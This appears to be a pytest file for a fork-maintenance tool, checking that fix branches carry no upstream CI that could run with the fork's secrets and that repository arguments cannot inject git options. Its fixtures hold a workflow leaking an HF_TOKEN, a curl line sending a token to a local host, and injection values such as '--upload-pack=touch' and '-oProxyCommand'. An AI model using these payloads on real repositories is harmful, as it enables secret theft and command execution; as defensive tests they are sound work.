"""Round 16c: what forkvet pushes to a fork holds nothing the fork does not already have but
the fix itself (C1: a branch built on upstream's tip carried upstream's new workflow into the
fork, where a push runs it with the fork's secrets); an `--upstream` value is never a git
option (G1)."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from forkvet.errors import InputError
from forkvet.giveback import publish
from forkvet.giveback.gitops import UPSTREAM_REF, fetch_upstream
from tests.conftest import git
from tests.test_giveback import UPSTREAM_FILES, commit, run

WORKFLOW = ".github/workflows/ci.yml"
HOSTILE = (
    "on: push\njobs:\n  grab:\n    runs-on: [self-hosted, linux, x64, gpu]\n    steps:\n"
    "      - run: echo ${{ secrets.HF_TOKEN }}\n"
)
FIX = {"model.py": UPSTREAM_FILES["model.py"].replace("len(x)", "max(len(x), 1)")}


def bare_clone(src: Path, dest: Path) -> Path:
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(dest)], check=True)
    return dest


def tree(repo: Path, ref: str) -> list[str]:
    return git(repo, "ls-tree", "-r", "--name-only", ref).split()


def forked(tmp_path: Path, files: dict[str, str]) -> tuple[Path, Path, Path]:
    """(upstream, the fork's remote: a bare clone, a checkout of the fork) of an upstream
    whose first commit holds `files`."""
    up = tmp_path / "upstream"
    up.mkdir()
    git(up, "init", "-q", "-b", "main")
    commit(up, files, "DeepNet release", "Jane Doe")
    remote = bare_clone(up, tmp_path / "fork.git")
    fork = tmp_path / "fork"
    subprocess.run(["git", "clone", "-q", str(remote), str(fork)], check=True)
    git(fork, "config", "user.name", "Fork Owner")
    git(fork, "config", "user.email", "owner@example.org")
    return up, remote, fork


def open_args(fork: Path, up: Path, remote: Path) -> list[str]:
    """`forkvet upstream --open` against a fork whose pushes go to `remote` (no API)."""
    args = ["upstream", str(fork), "--upstream", str(up), "--open", "--format", "json"]
    args += ["--upstream-repo", "upstream-org/model", "--fork-repo", "acme/model"]
    return [*args, "--api-url", "http://127.0.0.1:9", "--push-url", str(remote)]


@pytest.fixture
def hostile(tmp_path: Path) -> dict[str, Path]:
    """An upstream that adds a GPU workflow reading secrets after the fork was made; the
    fork's remote (a bare repository) and a checkout of it with one fix pushed."""
    up, remote, fork = forked(tmp_path, UPSTREAM_FILES)
    commit(up, {WORKFLOW: HOSTILE}, "ci: add GPU job", "Up Stream")
    commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
    git(fork, "push", "-q", "origin", "HEAD:main")
    return {"upstream": up, "fork": fork, "remote": remote}


def test_a_fix_branch_starts_at_the_fork_point_not_upstreams_tip(
    hostile: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    fork, up = hostile["fork"], hostile["upstream"]
    code, out, _ = run(["upstream", str(fork), "--upstream", str(up), "--format", "json"], capsys)
    assert code == 0, out
    draft = json.loads(out)["drafts"][0]
    assert draft["status"] == "drafted"
    branch = draft["branch"]
    assert WORKFLOW not in tree(fork, branch)  # upstream's new workflow is not in it
    # Its only commit the fork lacks is the fix; below it, the newest upstream commit the
    # fork has.
    assert git(fork, "rev-list", "--count", branch, "^HEAD") == "1"
    assert git(fork, "rev-parse", f"{branch}~1") == git(fork, "merge-base", "HEAD", UPSTREAM_REF)
    assert "(cherry picked from commit" in git(fork, "log", "-1", "--format=%B", branch)


def test_open_pushes_only_the_fix(
    github,  # type: ignore[no-untyped-def]
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    upstream = github.add_repo("upstream-org", "model", UPSTREAM_FILES, fork=False, parent=None)
    fork_remote = github.add_repo("acme", "model", UPSTREAM_FILES)
    github.commit(upstream, "main", {WORKFLOW: HOSTILE}, "ci: add GPU job")
    work = tmp_path / "work"
    subprocess.run(["git", "clone", "-q", f"file://{fork_remote.bare}", str(work)], check=True)
    git(work, "config", "user.name", "Fork Owner")
    git(work, "config", "user.email", "owner@example.org")
    commit(work, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
    git(work, "push", "-q", "origin", "HEAD:main")
    monkeypatch.setenv("FORKVET_USER_TOKEN", github.user_token("owner"))
    code, out, err = run(
        [
            "upstream",
            str(work),
            "--upstream",
            str(upstream.bare),
            "--open",
            "--upstream-repo",
            "upstream-org/model",
            "--fork-repo",
            "acme/model",
            "--push-url",
            str(fork_remote.bare),
            "--api-url",
            github.base_url,
            "--format",
            "json",
        ],
        capsys,
    )
    assert code == 0, err
    assert json.loads(out)["drafts"][0]["status"] == "opened"
    branch = upstream.pulls[0]["_head"].split(":", 1)[1]
    bare = fork_remote.bare
    assert WORKFLOW not in tree(bare, branch)
    new = git(bare, "rev-list", f"refs/heads/{branch}", "^refs/heads/main").split()
    assert len(new) == 1  # the cherry-picked fix, and nothing else the fork lacks


def test_the_push_guard_refuses_a_branch_with_upstream_commits(
    hostile: dict[str, Path], tmp_path: Path
) -> None:
    """Defence in depth: a branch made the old way (upstream's tip + the fix) is never
    pushed, whoever built it."""
    fork, up, remote = hostile["fork"], hostile["upstream"], hostile["remote"]
    fetch_upstream(fork, str(up))
    fix = git(fork, "rev-parse", "HEAD")
    git(fork, "branch", "forkvet/fix-old-way", UPSTREAM_REF)
    wt = tmp_path / "wt"
    git(fork, "worktree", "add", "-q", str(wt), "forkvet/fix-old-way")
    git(wt, "cherry-pick", "-x", fix)
    git(fork, "worktree", "remove", "--force", str(wt))
    with pytest.raises(publish.UnsafeBranch, match="2 commit\\(s\\)") as caught:
        publish.push_branch(fork, str(remote), "forkvet/fix-old-way", "", "HEAD", [fix])
    assert "git cherry-pick -x" in str(caught.value)  # what to do instead
    assert "forkvet/fix-old-way" not in git(remote, "branch", "--list")


def test_a_branch_reviving_a_workflow_the_fork_removed_is_not_pushed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fork point may hold CI the fork has since removed or changed: such a branch would
    run it again on a push. Refused, with what to do; a fix that changes a workflow itself
    is pushed."""
    nightly = ".github/workflows/nightly ü.yml"  # a name git quotes unless told not to
    up, remote, fork = forked(tmp_path, {**UPSTREAM_FILES, WORKFLOW: HOSTILE, nightly: HOSTILE})
    git(fork, "rm", "-q", WORKFLOW, nightly)
    git(fork, "commit", "-q", "-m", "Remove upstream's CI: not on our runners")
    commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
    git(fork, "push", "-q", "origin", "HEAD:main")
    monkeypatch.setenv("FORKVET_USER_TOKEN", "unused-token")
    args = open_args(fork, up, remote)
    fix = git(fork, "rev-parse", "HEAD")
    code, out, _ = run([*args, "--commits", fix], capsys)
    draft = json.loads(out)["drafts"][0]
    assert code == 1 and draft["status"] == "refused"
    assert WORKFLOW in draft["message"] and "git cherry-pick -x" in draft["message"]
    assert nightly in draft["message"]
    assert git(remote, "branch", "--list", "forkvet/*") == ""  # nothing pushed

    # A fix of the workflow itself, where an earlier fork commit changed the workflow too:
    # the branch holds the fork point's workflow (self-hosted) plus the trigger fix, which the
    # fork's default branch never had. Drafted, but never pushed (round 23c F1; before it was).
    git(fork, "reset", "-q", "--hard", "HEAD~2")
    ours = HOSTILE.replace("self-hosted, ", "")
    commit(fork, {WORKFLOW: ours}, "Run CI on our own labels")
    commit(fork, {WORKFLOW: ours.replace("on: push", "on: pull_request")}, "Fix CI trigger")
    git(fork, "push", "-q", "--force", "origin", "HEAD:main")
    ci_fix = git(fork, "rev-parse", "HEAD")
    code, out, _ = run([*args[:4], "--format", "json", "--commits", ci_fix], capsys)
    draft = json.loads(out)["drafts"][0]
    assert code == 0 and draft["status"] == "drafted", draft
    fork_ref = publish.fork_default(fork, str(remote), None)
    assert git(fork, "diff", "--name-only", fork_ref, draft["branch"]) == WORKFLOW
    with pytest.raises(publish.UnsafeBranch, match="changed or removed these since"):
        publish.push_branch(fork, str(remote), draft["branch"], "", fork_ref, [ci_fix])
    assert git(remote, "branch", "--list", "forkvet/*") == ""


@pytest.mark.parametrize("command", ["upstream", "attribution"])
def test_an_upstream_value_is_never_a_git_option(
    hostile: dict[str, Path],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: str,
) -> None:
    marker = tmp_path / "marker"
    for value in (f"--upload-pack=touch {marker}", f"--upload-pack=touch${{IFS}}{marker}"):
        code, _, err = run([command, str(hostile["fork"]), f"--upstream={value}"], capsys)
        assert code == 2 and "is not a repository" in err and len(err.splitlines()) == 1
    assert not marker.exists()
    with pytest.raises(InputError):
        fetch_upstream(hostile["fork"], f"--upload-pack=touch {marker}")
    assert not marker.exists()


def test_upstream_values_that_are_repositories(tmp_path: Path) -> None:
    from forkvet.giveback.gitops import remote_arg

    assert remote_arg("NVlabs/stylegan2") == "https://github.com/NVlabs/stylegan2.git"
    assert remote_arg("o/r", web_host="ghe.example.com") == "https://ghe.example.com/o/r.git"
    for url in ("https://github.com/o/r", "ssh://git@github.com/o/r", "git@github.com:o/r.git"):
        assert remote_arg(url) == url
    assert remote_arg("file:///srv/git/r.git") == "file:///srv/git/r.git"
    assert remote_arg(str(tmp_path)) == str(tmp_path)
    for bad in (
        "-oProxyCommand=x",
        "ssh://-oProxyCommand=x/r",
        "http://example.com/r",
        "ext::sh -c x",
        "a/b\nc",
        "gone",
    ):
        with pytest.raises(InputError):
            remote_arg(bad)


def test_a_cloned_url_or_ref_is_never_a_git_option(tmp_path: Path) -> None:
    """The same wall where `vet URL --ref REF` and the App clone: refused before git runs."""
    from forkvet.source import clone

    marker = tmp_path / "marker"
    for url, ref in (
        (f"--upload-pack=touch {marker} ://x", None),
        ("https://example.invalid/o/r", f"--upload-pack=touch {marker}"),
    ):
        with pytest.raises(InputError, match="not a"):
            clone(url, tmp_path / "clone", ref)
    assert not marker.exists() and not (tmp_path / "clone").exists()


def _refused_open(
    fork: Path,
    up: Path,
    remote: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> dict[str, str]:
    """Push the fork, run `upstream --open` on its last commit: the draft, refused, with
    nothing pushed."""
    git(fork, "push", "-q", "origin", "HEAD:main")
    monkeypatch.setenv("FORKVET_USER_TOKEN", "unused-token")
    code, out, _ = run(
        [*open_args(fork, up, remote), "--commits", git(fork, "rev-parse", "HEAD")], capsys
    )
    draft: dict[str, str] = json.loads(out)["drafts"][0]
    assert code == 1 and draft["status"] == "refused", draft
    assert git(remote, "branch", "--list", "forkvet/*") == ""  # nothing pushed
    return draft


def test_a_branch_reviving_a_script_the_fork_changed_is_not_pushed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Round 22c F6: the fork's own workflow runs `scripts/ci.sh`; the fork removed a line of
    it that sent a secret away. A fix branch starts at the fork point, so it holds the old
    script, and a push would run it with the fork's secrets: any file the branch would add
    or change against the fork, not only CI files, is refused unless a fix changes it."""
    script = "scripts/ci.sh"
    leaky = 'python -m pytest\ncurl -d "$HF_TOKEN" http://127.0.0.1:9/\n'
    ours = HOSTILE.replace("echo ${{ secrets.HF_TOKEN }}", "bash scripts/ci.sh")
    up, remote, fork = forked(tmp_path, {**UPSTREAM_FILES, WORKFLOW: ours, script: leaky})
    commit(fork, {script: "python -m pytest\n"}, "ci: send nothing anywhere")
    commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
    draft = _refused_open(fork, up, remote, capsys, monkeypatch)
    assert script in draft["message"] and "git cherry-pick -x" in draft["message"]


def test_a_fix_to_a_file_the_fork_changed_since_is_not_pushed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Round 23c F1: the fork removed a step of its workflow that sent a secret away; a fix
    changes another line of the same workflow. The branch holds the fork point's workflow plus
    the fix, so the step came back, although the file is one the fix changes."""
    filler = "".join(f"      - run: echo step{i}\n" for i in range(8))
    leaky = HOSTILE + filler + "      - run: echo tail\n"
    up, remote, fork = forked(tmp_path, {**UPSTREAM_FILES, WORKFLOW: leaky})
    commit(fork, {WORKFLOW: leaky.replace("echo ${{ secrets.HF_TOKEN }}", "echo ok")}, "ci: no")
    fixed = (fork / WORKFLOW).read_text().replace("echo tail", "echo tail fixed")
    commit(fork, {WORKFLOW: fixed}, "ci: fix the tail step", "Bea Fixer")
    draft = _refused_open(fork, up, remote, capsys, monkeypatch)
    assert WORKFLOW in draft["message"] and "changed or removed these since" in draft["message"]
